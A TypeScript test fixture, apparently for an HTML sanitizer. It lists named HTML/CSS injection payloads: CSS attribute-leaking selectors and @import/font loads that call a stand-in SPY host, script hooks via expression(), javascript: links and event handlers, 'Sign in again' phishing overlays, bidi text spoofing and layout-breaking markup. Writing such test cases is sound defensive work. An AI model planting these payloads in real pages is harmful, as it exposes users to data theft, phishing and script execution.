// Attacks by styles, positions and roles that imitate the app, cover it, or hide text. `table.ts` fills in RUN and SPY.
const OVER = 'position:fixed;inset:0;z-index:2147483647;background:#fff';

export const LOOKS = {
	'a style': '<style>*{display:none!important}body{background:url(SPY/style)}</style>',
	'a style that imports': '<style>@import "SPY/import.css";@import url(SPY/import2.css)</style>',
	'a style that loads a font': '<style>@font-face{font-family:f;src:url(SPY/font)}p{font-family:f}</style>',
	'a style that reads attributes':
		'<style>input[value^=a]{background:url(SPY/a)}button{background:url(SPY/leak)}a{background:url(SPY/b)}</style>',
	'a style attribute with an address':
		'<p style="background:url(SPY/attr)">x</p><p style="list-style:url(SPY/list)">x</p>',
	'a style attribute with escapes': '<p style="background:\\75\\72\\6c(SPY/escaped)">x</p>',
	'a style attribute with an expression':
		'<p style="width:expression(RUN);-moz-binding:url(SPY/xbl);behavior:url(SPY/htc)">x</p>',
	'a style attribute with image-set':
		'<p style="background:image-set(\'SPY/set\' 1x)">x</p><p style="cursor:url(SPY/cursor),auto;mask:url(SPY/mask)">x</p>',
	'an overlay': `<div style="${OVER}">Sign in again</div>`,
	'an overlay of a link': `<a href="SPY/over" style="${OVER}">x</a>`,
	'an overlay by classes':
		'<div class="fixed inset-0 modal overlay toolbar banner">Sign in again</div><style>.fixed{position:fixed;inset:0;z-index:99}</style>',
	'an overlay by a huge margin': '<div style="margin:-9999px;padding:9999px;transform:scale(99)">x</div>',
	'an overlay in the top layer':
		'<dialog open style="position:fixed;inset:0">Sign in again</dialog><div popover=manual id=pop>x</div>',
	'an overlay by an anchor':
		'<div anchor=content style="position:absolute;position-anchor:--a;top:anchor(top)">x</div>',
	'an overlay by a large picture':
		'<img src=/picture.png width=100000 height=100000 style="position:absolute;left:-50vw;top:-50vh">',
	'an overlay by layers':
		'<layer src="SPY/layer" left=0 top=0></layer><ilayer src="SPY/ilayer"></ilayer><div style="position:fixed;inset:0">x</div>',
	'classes of the app':
		'<p class="button problem unseen narrow skip name">x</p><header class=body><nav>x</nav></header><footer role=group>y</footer>',
	'an element that takes over scrolling':
		'<div style="height:100000px;overflow:scroll;overscroll-behavior:none" tabindex=0>x</div><marquee direction=up height=9999>x</marquee>',
	'a wide table': `<table width=99999 border=9><tr>${'<td width=9999 nowrap>wide'.repeat(40)}</tr></table>`,
	'a wide word': `<p>${'w'.repeat(20_000)}</p><pre>${'w'.repeat(20_000)}</pre><h2>${'W'.repeat(5_000)}</h2>`,
	'a wide list': `${'<ul><li>'.repeat(90)}deep${'</ul>'.repeat(90)}${'<blockquote>'.repeat(90)}<ol start=-999999><li>deep`,
	'a wide cell': `<table><tr><td colspan=999 rowspan=999>a<td colspan=1000 rowspan=65534>b${'<td colspan=1000>b'.repeat(30)}</table>`,
	'a wide rule':
		'<hr width=99999 size=99999><br clear=all><spacer type=block width=9999 height=9999><pre width=9999>x</pre>',
	'a pile of combining marks': `<p>a${'\u0336\u0489\u030d'.repeat(400)}</p>`,
	'text that is reversed':
		'<p>\u202e\u202dturned \u2067round</p><bdo dir=rtl>\u202e x</bdo><p dir=rtl>\u200f\u061c</p>',
	'text that speaks as the app':
		'<div role=alert aria-live=assertive aria-label="Offprint">Sign in again</div><div role=button tabindex=0 onclick=RUN>Go</div>',
	'text that can be written in':
		'<p contenteditable=true onfocus=RUN onbeforeinput=RUN>Your password:</p><p contenteditable=plaintext-only>x</p>',
	'text that can be dragged':
		'<p draggable=true ondragstart=RUN>drag</p><p dropzone="copy s:text/plain" ondrop=RUN ondragover=RUN>drop</p>',
	'text that takes access keys':
		'<a href="javascript:RUN" accesskey=x tabindex=1>x</a><p tabindex=99999 accesskey=s>y</p>',
	'text that hides':
		'<p hidden>a</p><p inert>b</p><div aria-hidden=true>c</div><main hidden>d</main><style>main{display:none}</style>',
	'text put in a slot':
		'<p slot=body part=x is=x-element exportparts=y>x</p><x-element onclick=RUN>y</x-element><slot name=a>z</slot>'
} as const;
